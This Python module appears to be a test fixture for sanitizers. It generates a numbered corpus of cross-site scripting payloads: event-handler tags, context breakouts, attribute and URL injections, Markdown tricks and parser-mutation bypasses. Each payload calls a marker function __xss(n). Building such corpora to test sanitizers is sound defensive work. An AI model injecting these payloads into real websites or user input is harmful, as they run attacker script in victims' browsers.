"""Texts that try to run a script: what people type, with a call that says which one it was.

Each calls `__xss(number)`. They are made from parts, so that every way in meets every way to run.
"""

from collections.abc import Iterator
from typing import Final

HANDLERS: Final = (
    "<img src=x onerror={call}>",
    "<img src=x:x onerror\t=\n{call}>",
    "<img/src=x/onerror={call}>",
    '<img src="x" alt="`" onerror="{call}">',
    "<IMG SRC=x OnErRoR={call}>",
    "<svg onload={call}>",
    "<svg/onload={call}//",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><set onbegin={call} attributename=x>",
    "<svg><image href=x onerror={call} />",
    "<svg><script>{call}</script></svg>",
    "<svg><script href='data:text/javascript,{call}'/></svg>",
    "<svg><style><img src=x onerror={call}></style></svg>",
    "<svg><desc><img src=x onerror={call}></desc></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.{call}</script>'></iframe></foreignObject>",
    "<math><mtext><img src=x onerror={call}></mtext></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror={call}></annotation-xml></math>",
    "<body onload={call}>",
    "<body onpageshow={call}>",
    "<details open ontoggle={call}><summary>x</summary></details>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}></select>",
    "<textarea autofocus onfocus={call}></textarea>",
    "<button autofocus onfocus={call}>x</button>",
    "<p tabindex=1 autofocus onfocus={call}>x</p>",
    "<video src=x onerror={call}></video>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}></audio>",
    "<object data=x onerror={call}></object>",
    "<embed src='data:text/html,<script>parent.{call}</script>'>",
    "<iframe onload={call}></iframe>",
    "<iframe src='javascript:parent.{call}'></iframe>",
    "<iframe srcdoc='<script>parent.{call}</script>'></iframe>",
    "<script>{call}</script>",
    "<script >{call}</script >",
    "<script\x0c>{call}</script>",
    "<script src=data:text/javascript,{call}></script>",
    "<script type=module>{call}</script>",
    "<sCrIpT>{call}</ScRiPt>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<style onload={call}></style>",
    "<link rel=stylesheet href='data:text/css,*{{}}' onload={call}>",
    "<marquee onstart={call}>x</marquee>",
    "<xss style='animation-name:fade' onanimationstart={call}>x</xss>",
    "<base href='javascript:/a/../{call}//'>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<form action='javascript:{call}'><button autofocus>x</button></form>",
    "<table background='javascript:{call}'><tr><td>x</td></tr></table>",
    "<dialog open onclose={call}><form method=dialog><button>x</button></form></dialog>",
    "<div popover id=x onbeforetoggle={call}>x</div>",
    "<template shadowrootmode=open><img src=x onerror={call}></template>",
    "<p style=\"background:url('javascript:{call}')\">x</p>",
    "<isindex action=javascript:{call} type=submit>",
    "<frameset onload={call}><frame></frameset>",
    "<keygen autofocus onfocus={call}>",
    "<bgsound src=javascript:{call}>",
)
BREAKOUTS: Final = (
    '">{tag}',
    "'>{tag}",
    "'\">{tag}",
    "</title>{tag}",
    "</textarea>{tag}",
    "</script>{tag}",
    "</style>{tag}",
    "</noscript>{tag}",
    "</template>{tag}",
    "</option></select>{tag}",
    "--><!-->{tag}",
    "]]>{tag}",
    "<!--><p>{tag}-->",
    "<!--!>{tag}<!--",
    "<![CDATA[>{tag}]]>",
    "<?php ?>{tag}",
    '</script><script type="application/ld+json">{{"a":"</script>{tag}',
    '"}}]}}</script>{tag}',
    "\\u003c/script\\u003e\\u003cimg src=x onerror={call}\\u003e{tag}",
    "&lt;/p&gt;{tag}",
    "{{{{ 7 }}}}{{% endblock %}}{tag}",
    "${{{call}}}{tag}",
    "\x00{tag}",
    "\u202e{tag}",
    "\ufeff\u200b{tag}",
    "\u2028{tag}\u2029",
    "\ud7ff\ufffd{tag}",
)
RUNNING: Final = ("<img src=x onerror={call}>", "<script>{call}</script>", "<svg onload={call}>")
ATTRIBUTES: Final = (
    '" onmouseover={call} autofocus onfocus={call} x="',
    "' onmouseover={call} autofocus onfocus={call} x='",
    '"onfocus={call} autofocus tabindex=1 id=x',
    "x' onerror={call} src=x '",
    "`onfocus={call} autofocus",
    '" style="animation-name:x" onanimationstart="{call}',
    "&quot; onfocus={call} autofocus x=&quot;",
    "&#34; onfocus={call} autofocus x=&#34;",
    '\\" onfocus={call} autofocus x=\\"',
    '";{call};"',
    "';{call};'",
    '"-{call}-"',
    "*/{call}/*",
)
URLS: Final = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    "java\nscript:{call}",
    "java\rscript:{call}",
    "\x01javascript:{call}",
    "\x1f javascript:{call}",
    "\u00a0javascript:{call}",
    "\u200bjavascript:{call}",
    "javascript\t:{call}",
    "javascript&colon;{call}",
    "javascript&#58;{call}",
    "&#106;avascript:{call}",
    "&#x6A;avascript:{call}",
    "&#0000106avascript:{call}",
    "java&Tab;script:{call}",
    "java&NewLine;script:{call}",
    "javascript:/*--></title></style></textarea></script>*/{call}",
    "javascript://x.example/%0a{call}",
    "javascript:%5f%5fxss(1)",
    "vbscript:{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={call}>",
    "DATA:text/html;charset=utf-8,<script>{call}</script>",
    "view-source:javascript:{call}",
    "feed:javascript:{call}",
    "blob:javascript:{call}",
    "//javascript:{call}",
    'https://x.example/"onmouseover={call}//',
    "https://x.example/'onmouseover={call}//",
    "https://x.example/?<img src=x onerror={call}>",
)
LINKS: Final = (
    "[x]({url})",
    "[x](<{url}>)",
    '[x]({url} "t")',
    "![x]({url})",
    "<{url}>",
    "[x]: {url}\n\n[x]",
    '<a href="{url}">x</a>',
    "[![x](x)]({url})",
)
MARKDOWN: Final = (
    '[x](https://x.example "\\" onmouseover={call} x=\\"")',
    "[x](https://x.example '\"><img src=x onerror={call}>')",
    '![x" onerror="{call}](x)',
    "![<img src=x onerror={call}>](x)",
    "[<img src=x onerror={call}>](https://x.example)",
    "[x][<script>{call}</script>]",
    '```"><img src=x onerror={call}>\nx\n```',
    "```\n</code></pre><img src=x onerror={call}>\n```",
    "    </code></pre><script>{call}</script>",
    "`</code><img src=x onerror={call}>`",
    "| <img src=x onerror={call}> |\n|--|\n| </td></table><svg onload={call}> |",
    "# <img src=x onerror={call}>",
    "# x {{#a onload={call}}}",
    "[^1]\n\n[^1]: <img src=x onerror={call}>",
    "> <script>\n> {call}\n> </script>",
    "- <svg onload={call}>\n- <!--\n- --><img src=x onerror={call}>",
    "<div>\n\n<script>{call}</script>\n\n</div>",
    "www.x.example/<img/src=x/onerror={call}>",
    'https://x.example/"><img/src=x/onerror={call}>',
    "x@x.example'onmouseover={call}",
    "@x<img src=x onerror={call}>",
    "~~<svg onload={call}>~~ **<img src=x onerror={call}>**",
    '<https://x.example/?"onmouseover={call}>',
    "&lt;img src=x onerror={call}&gt; &amp;lt;img src=x onerror={call}&amp;gt;",
)
MUTATIONS: Final = (
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror={call}&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={call}>",
    "<svg></p><style><a id='</style><img src=1 onerror={call}>'>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<table><td><template><img src=x onerror={call}></template></table>",
    "<table><svg><td><img src=x onerror={call}></table>",
    "<select><template><img src=x onerror={call}></template></select>",
    "<select><iframe><img src=x onerror={call}></select>",
    "<xmp><p title='</xmp><img src=x onerror={call}>'>",
    "<listing>&lt;img src=x onerror={call}&gt;</listing>",
    "<plaintext><img src=x onerror={call}>",
    "<noembed><p title='</noembed><img src=x onerror={call}>'>",
    "<iframe><p title='</iframe><img src=x onerror={call}>'>",
    "<textarea><p title='</textarea><img src=x onerror={call}>'>",
    "<style><p title='</style><img src=x onerror={call}>'>",
    "<a><table><a href='x'></a></table><img src=x onerror={call}></a>",
    "<p><svg><title><p><style><img src=x onerror={call}></style></title></svg>",
    "<math><mi//xlink:href='data:x,<script>{call}</script>'>",
    "<svg><a xlink:href='javascript:{call}'><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={call}></svg>#x'/></svg>",
    "<math href='javascript:{call}'>x</math>",
    "<img src='x` `<script>{call}</script>'` `>",
    "<a href='https://x.example'onclick={call}>x</a>",
    "<p id=__xss name=body><img name=getElementById src=x onerror={call}>",
)


def _texts() -> Iterator[str]:
    yield from HANDLERS
    for number, breakout in enumerate(BREAKOUTS):
        for tag in RUNNING if number < 12 else RUNNING[:1]:
            yield breakout.replace("{tag}", tag)
    yield from ATTRIBUTES
    for number, url in enumerate(URLS):
        for step in (0, 1, 2, 4):
            way = LINKS[(number + step) % len(LINKS)]
            yield way.replace("{url}", url)
    yield from MARKDOWN
    yield from MUTATIONS


def hostile_texts() -> list[str]:
    """All of them, each once, each with its number."""
    texts = [
        text.replace("{call}", "__xss(@)").replace("{{", "{").replace("}}", "}")
        for text in dict.fromkeys(_texts())
    ]
    return [text.replace("@)", f"{number})") for number, text in enumerate(texts)]


def packed(limit: int, between: str = " ") -> list[str]:
    """The texts in as few pieces of at most so many characters as it takes; longer ones not."""
    pieces = [""]
    for text in hostile_texts():
        if len(text) > limit:
            continue
        longer = f"{pieces[-1]}{between}{text}" if pieces[-1] else text
        if len(longer) > limit:
            pieces.append(text)
        else:
            pieces[-1] = longer
    return pieces
